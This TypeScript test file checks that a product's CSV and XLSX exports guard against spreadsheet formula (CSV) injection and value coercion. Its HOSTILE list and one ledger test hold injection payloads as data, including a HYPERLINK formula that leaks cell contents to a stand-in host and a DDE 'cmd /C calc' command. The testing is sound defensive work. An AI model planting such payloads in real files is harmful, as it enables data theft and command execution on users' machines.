import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { chartCsv, type ChartSpec } from '../../src/features/charts/charts.ts';
import { csvField, csvText, FORMULA_TRIGGERS, looksLikeFormula, peopleCsvField, readsAsValue, safeCellText, unguardCellText } from '../../src/core/csv.ts';
import { toCsv } from '../../src/features/publish/downloads.ts';
import type { ColumnKey } from '../../src/features/sheet/columns.ts';
import { sheetCsv, writeSheetXlsx } from '../../src/features/sheet/workbook.ts';
import { checkFormulaText } from '../../src/features/sheet/formula-text.ts';
import { tempDir } from '../helpers/temp-dir.ts';

/** Texts a spreadsheet would run as formulas: every trigger, full-width forms, after spaces. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u3000=1+1',
];
const HARMLESS = ['市本级', '1.2021年12月，全市…', '2023年12月', '（1）整治', '', 'a-b', 'x=1', '8.6'];

describe('the formula (CSV-injection) rule', () => {
  it('prefixes a single quote to every text a spreadsheet would read as a formula', () => {
    for (const text of HOSTILE) expect(safeCellText(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const trigger of FORMULA_TRIGGERS) expect(looksLikeFormula(`${trigger}x`), JSON.stringify(trigger)).toBe(true);
  });

  it('leaves text that does not start with a formula sign exactly as it is', () => {
    for (const text of HARMLESS) expect(safeCellText(text), JSON.stringify(text)).toBe(text);
  });

  it('gives back the original text of a guarded cell, and leaves any other quote alone', () => {
    for (const text of [...HOSTILE, ...HARMLESS]) expect(unguardCellText(safeCellText(text))).toBe(text);
    expect(unguardCellText("'引号开头的文字")).toBe("'引号开头的文字");
  });

  it('writes a number as a number, so a negative value is not turned into text', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField('-3')).toBe("'-3");
    expect(csvField(true)).toBe('true');
  });

  it('guards before quoting, so a guarded cell with a comma is still one field', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvText([['=a', 1], ['b', null]])).toBe("\uFEFF'=a,1\r\nb,\r\n");
  });
});

describe('text a spreadsheet would turn into something else', () => {
  // What Excel and WPS make of these when they open a CSV: a date, a number without its zero, a
  // rounded number in E notation, a time, TRUE.
  const CHANGED = ['2023-12', '2023', '06', '511902', '123456789012345678', '2023/12/31', '1.5.2023', '2022-06-30', 'Dec-23', '12 Jan', '9:30', '12%', '1,234', '-5', '3.50', '1e5', 'true', 'FALSE', '２０２３-１２', ' 06 '];
  const KEPT = ['2023年12月', '立行立改，长期坚持', 'bazhong-cei2/06', 'demo/office', '06号', '第6条', 'a-b', '1.2021年12月，全市…', '', '省整改任务第十项'];

  it('knows a number, a date, a time and a truth value as a spreadsheet reads them', () => {
    for (const text of CHANGED) expect(readsAsValue(text), JSON.stringify(text)).toBe(true);
    for (const text of KEPT) expect(readsAsValue(text), JSON.stringify(text)).toBe(false);
  });

  it('marks such text with a single quote in a CSV for people, and leaves other text and numbers alone', () => {
    expect(peopleCsvField('2023-12')).toBe("'2023-12");
    expect(peopleCsvField('06')).toBe("'06");
    expect(peopleCsvField('1,234')).toBe(`"'1,234"`);
    expect(peopleCsvField('2023年12月')).toBe('2023年12月');
    expect(peopleCsvField(6)).toBe('6');
    expect(peopleCsvField(8.6)).toBe('8.6');
    expect(peopleCsvField(null)).toBe('');
  });

  it('guards a formula once, whether or not it also reads as a number', () => {
    expect(peopleCsvField('-5')).toBe("'-5");
    expect(peopleCsvField('=1+1')).toBe("'=1+1");
    expect(peopleCsvField('+86')).toBe("'+86");
  });

  it('keeps the program-readable CSVs exact: their 2023-12 stays 2023-12', () => {
    expect(csvField('2023-12')).toBe('2023-12');
    expect(csvText([['06', '2023-12']], { byteOrderMark: false })).toBe('06,2023-12\r\n');
  });
});

describe('every CSV and XLSX the product writes', () => {
  it('guards text in the public downloads', () => {
    expect(toCsv(['summary', 'value'], [{ summary: '=1+1', value: -3 }])).toBe("summary,value\r\n'=1+1,-3\r\n");
  });

  it('guards a chart category and keeps its drawn numbers, negative ones included, as numbers', () => {
    const spec = { title: '图', categoryLabel: '@时间', categories: ['-2022年'], series: [{ label: '＝值', role: 'measured', values: [-1.5] }] } as unknown as ChartSpec;
    expect(chartCsv(spec)).toBe("\uFEFF'@时间（图）,'＝值\r\n'-2022年,-1.5\r\n");
  });

  const row = (finding: string) =>
    ({ number: '1', finding, responsibleUnits: '市生态环境局', supervisingUnits: '市委办', deadline: '2023年12月', goal: '+目标', measures: '1.措施', progress: '', title: '简称' }) as Record<ColumnKey, string>;
  const columns = Object.keys(row('')) as ColumnKey[];

  it('guards text in the ledger CSV export', async () => {
    const csv = await sheetCsv(columns, [row('=HYPERLINK("http://evil.example","x")')]);
    const line = csv.split('\r\n')[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(line).toContain("'+目标");
  });

  it('guards text in the ledger XLSX export, and writes no formula cell', async () => {
    const path = join(tempDir('csv-guard'), 'ledger.xlsx');
    await writeSheetXlsx(path, columns, [row('@SUM(A1:A9)')], '清单');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('B2').value).toBe("'@SUM(A1:A9)");
    expect(sheet.getCell('F2').value).toBe("'+目标");
    expect(sheet.getCell('A2').value).toBe('1');
  });
});

describe('a cell written by the export and read by the import', () => {
  it.each(['=1+1', "'=1+1", "''=x", ' =x', '\u2003=HYPERLINK("x")', '\u200b=1', '-1', '- 完成排查', '＠某人', "it's", "'", '', '普通文字', '@'])('comes back exactly: %j', (text) => {
    expect(unguardCellText(safeCellText(text))).toBe(text);
    const imported = checkFormulaText(safeCellText(text));
    expect(imported).toEqual({ text });
  });
});
